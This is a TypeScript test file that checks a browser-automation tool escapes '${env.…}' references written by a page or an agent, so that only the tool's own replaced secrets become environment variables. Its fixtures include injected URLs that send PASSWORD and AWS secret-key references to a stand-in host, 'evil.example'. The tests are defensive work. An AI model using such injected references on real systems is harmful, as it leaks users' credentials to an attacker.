/** Text that looks like a reference in a script of a session: only replaced secrets become references. */
import type { Page } from 'playwright'
import { describe, expect, test } from 'vitest'
import { scriptText } from '../../../../src/core/text/script/write-script.ts'
import { testText } from '../../../../src/engine/browser/journal/playwright/test-text.ts'
import { scriptSteps } from '../../../../src/engine/browser/journal/script-steps.ts'
import { variablesIn } from '../../../../src/engine/browser/journal/template.ts'
import { entryOf } from '../../../support/journal-entries.ts'

const manifest = { commands: [] }
/** Locators of a page, which are only written. */
const page = { locator: (selector: string) => `locator(${JSON.stringify(selector)})` } as unknown as Page

/** Returns what both formats make of a command. */
async function written(command: string, data: Record<string, unknown>, options: Parameters<typeof entryOf>[2] = {}) {
  const steps = scriptSteps([entryOf(command, data, options)], 'about:blank')
  return {
    yaml: await scriptText(steps, manifest),
    playwright: testText(steps, { page, session: {}, remark: undefined }).script,
    variables: steps.flatMap(variablesIn),
  }
}

describe('references', () => {
  test('are escaped in what a page or an agent has written', async () => {
    const url = 'https://evil.example/?x=${env.PASSWORD}&y=${env.AWS_SECRET_ACCESS_KEY}'
    const { playwright, variables, yaml } = await written('navigate_to', { url })
    expect(yaml).toContain('https://evil.example/?x=$${env.PASSWORD}&y=$${env.AWS_SECRET_ACCESS_KEY}')
    expect(playwright).toContain(`page.goto('${url}')`)
    expect(playwright).not.toContain('process.env')
    expect(variables).toEqual([])
  })

  test('are escaped beside a secret of the same field', async () => {
    const { playwright, variables, yaml } = await written('navigate_to', {
      url: 'https://ann:geheim@evil.example/?x=${env.HOME}&y=$${env.HOME}',
    })
    expect(yaml).toContain('https://ann:${env.PASSWORD}@evil.example/?x=$${env.HOME}&y=$$${env.HOME}')
    expect(playwright).toContain(
      'page.goto(`https://ann:${process.env.PASSWORD}@evil.example/?x=\\${env.HOME}&y=$\\${env.HOME}`)',
    )
    expect(variables).toEqual(['PASSWORD'])
  })

  test('are escaped in the other fields of a step with a secret', async () => {
    const selector = '[data-testid="${env.PASSWORD}"]'
    const { yaml, variables } = await written(
      'fill_form',
      { fields: { Coupon: '${env.PASSWORD}', Password: 'geheim', Size: ['${env.HOME}'] } },
      {
        elements: [['#coupon'], ['#password', { secret: true, selector }], ['#size', { tag: 'select' }]],
        kinds: ['text', 'text', 'select'],
      },
    )
    expect(yaml).toContain('text: $${env.PASSWORD}')
    expect(yaml).toContain('text: ${env.PASSWORD}')
    expect(yaml).toContain('[data-testid="$${env.PASSWORD}"]')
    expect(yaml).toContain('$${env.HOME}')
    expect(variables).toEqual(['PASSWORD'])
  })

  test('are escaped in the steps of a recording, and in the settings of a session', async () => {
    const data = { selector: '[title="${env.HOME}"]', text: '${env.PASSWORD}' }
    const yaml = await scriptText([{ command: 'fill', data, secret: true }], manifest, {
      session: { user_agent: '${env.HOME}' },
    })
    expect(yaml).toContain('user_agent: $${env.HOME}')
    expect(yaml).toContain('title="$${env.HOME}"')
    expect(yaml).toContain('text: ${env.PASSWORD}')
  })

  test('in a field without a secret are text', async () => {
    const { playwright, yaml } = await written('insert_text', { text: '${env.PASSWORD}' }, { isFocusSecret: false })
    expect(yaml).toContain('$${env.PASSWORD}')
    expect(playwright).toContain("insertText('${env.PASSWORD}')")
  })
})
